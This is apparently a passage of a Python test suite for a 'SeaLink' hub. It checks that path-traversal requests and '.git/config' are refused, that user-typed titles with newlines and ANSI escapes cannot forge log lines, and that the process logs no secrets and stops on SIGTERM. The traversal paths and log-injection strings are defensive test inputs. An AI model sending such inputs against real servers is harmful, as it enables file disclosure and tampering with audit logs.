        assert answers["/console/js/main.js", None].status == 200
        assert answers["/api/v1/vessels", "admin"].headers["Cache-Control"] == "no-store"
        for path in ("/console/README.md", "/console/tools/build_land.mjs",
                     "/console/tools/README.md", "/console/tools/make_icons.py", "/console/data/README.md",
                     "/console/vendor/leaflet/LICENSE", "/console/data/LICENSE.world-atlas",
                     "/console/%2e%2e/README.md", "/console/js/../../README.md",
                     "/console/.git/config", "/console/css/"):  # fmt: skip
            r = await s.get(site.base + path)
            body = await r.read()
            assert r.status == 404, (path, r.status, body[:80])
            assert b"SeaLink" not in body or b'"error"' in body
        for path in ("/console/css/app.css", "/console/data/land.geojson",
                     "/console/vendor/leaflet/images/marker-icon.png", "/console/sw.js",
                     "/console/manifest.webmanifest", "/console/icons/icon-192.png"):  # fmt: skip
            r = await s.get(site.base + path)
            await r.read()
            assert r.status == 200, path


def test_nobody_forges_a_log_line_through_what_he_types() -> None:
    import io
    import logging

    from seaLink import logsafe

    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(logsafe.OneLineFormatter(logsafe.FORMAT))
    log = logging.getLogger("test.forging")
    log.addHandler(handler)
    log.propagate = False
    try:
        title = "消防演练\n2026-12-06 09:00:00 WARNING seaLink.auth: admin logged out\r\x1b[2J"
        log.warning("Added job %r to job store", title)
        log.warning("job %s", title)
        try:
            raise ValueError("boom")
        except ValueError:
            log.exception("failed on %s", title)
    finally:
        log.removeHandler(handler)
    lines = out.getvalue().splitlines()
    assert len([ln for ln in lines if "seaLink.auth: admin logged out" in ln]) == 3
    assert not [ln for ln in lines if ln.startswith("2026-12-06 09:00:00")]
    assert "\x1b" not in out.getvalue() and "\\x1b[2J" in out.getvalue()
    assert "Traceback (most recent call last):" in lines  # ours still spans its lines


def _logs_of(folder: Path) -> str:
    return "\n".join(p.read_text(errors="replace") for p in sorted(folder.glob("hub-*.log")))


async def test_a_hub_process_logs_no_secret_and_stops_within_10s_with_a_console_open(
    registered: Settings, tmp_path: Path
) -> None:
    """The real `sealink hub` process: its whole log holds none of the passwords and tokens
    this test gave it or typed, shows the broker URL masked and no forged line; a SIGTERM with
    a console's WebSocket open closes the socket (1001) and ends the process within 10 s."""
    import signal
    import time
    import uuid

    from tests.hub_process import HubProcess

    secret = uuid.uuid4().hex[:10]
    broker_pw, admin_pw, wrong_pw = f"brk-{secret}", f"adm-{secret}", f"wrong-{secret}"
    user_pw, user_pw2 = f"usr-{secret}", f"usr2-{secret}"
    url = registered.mqtt.url.replace("mqtt://", f"mqtt://sealink-hub:{broker_pw}@", 1)
    assert broker_pw in url
    forged = "2026-12-06 09:00:00,000 WARNING seaLink.api: admin password reset by nobody"
    hub = HubProcess(registered, tmp_path, {
        "SEALINK_MQTT__URL": url, "SEALINK_ADMIN_PASSWORD": admin_pw, "SEALINK_LOG_LEVEL": "INFO",
    })  # fmt: skip
    base = f"http://127.0.0.1:{registered.api.port}"
    tokens: list[str] = []
    await asyncio.to_thread(hub.start)
    try:
        async with aiohttp.ClientSession() as s:
            r = await s.post(f"{base}/api/v1/auth/login",
                             json={"username": "admin", "password": wrong_pw})  # fmt: skip
            assert r.status == 401
            r = await s.post(f"{base}/api/v1/auth/login",
                             json={"username": "admin", "password": admin_pw})  # fmt: skip
            tokens.append((await r.json())["token"])
            h = {"Authorization": f"Bearer {tokens[0]}"}
            user = {"username": "lin", "password": user_pw, "role": "coordinator", "grids": ["G01"]}
            assert (await s.post(f"{base}/api/v1/users", json=user, headers=h)).status == 201
            r = await s.patch(f"{base}/api/v1/users/lin", json={"password": user_pw2}, headers=h)
            assert r.status == 200
            starts = (datetime.now(UTC) + timedelta(days=1)).isoformat()
            training = {"title": f"消防演练\n{forged}", "study_pack": "灭火器", "starts_at": starts,
                        "target": {"grids": ["G01"]}}  # fmt: skip
            r = await s.post(f"{base}/api/v1/trainings", json=training, headers=h)
            assert r.status == 201, await r.text()
            ws = await s.ws_connect(f"{base}/api/v1/events?token={tokens[0]}")
            assert (await ws.receive_json(timeout=10))["type"] == "hello"
            assert hub.proc is not None
            started = time.monotonic()
            hub.proc.send_signal(signal.SIGTERM)
            closing = await ws.receive(timeout=10)
            assert closing.type in (aiohttp.WSMsgType.CLOSE, aiohttp.WSMsgType.CLOSED), closing
            assert ws.close_code in (None, 1001), ws.close_code
            await asyncio.to_thread(hub.proc.wait, 12)
            stopped = time.monotonic() - started
            assert stopped < 10, f"the hub took {stopped:.1f}s to stop"
    finally:
        hub.stop()
    text = await asyncio.to_thread(_logs_of, tmp_path)
    assert "hub ready" in text, text[-2000:]
    leaked = [name for name, value in (("broker", broker_pw), ("admin", admin_pw),
              ("typed", wrong_pw), ("user", user_pw), ("user (new)", user_pw2),
              ("token", tokens[0])) if value in text]  # fmt: skip
    assert not leaked, f"the hub log holds the {leaked} secret(s)"
    # Where it connected is logged as host and port only (never the URL with its password).
    assert re.search(r"mqtt: connected to 127\.0\.0\.1:\d+ as ", text), text[-2000:]
    assert not [ln for ln in text.splitlines() if ln.startswith(forged[:19])], "a forged line"
    assert "消防演练\\n2026-12-06" in text  # the title was logged, escaped
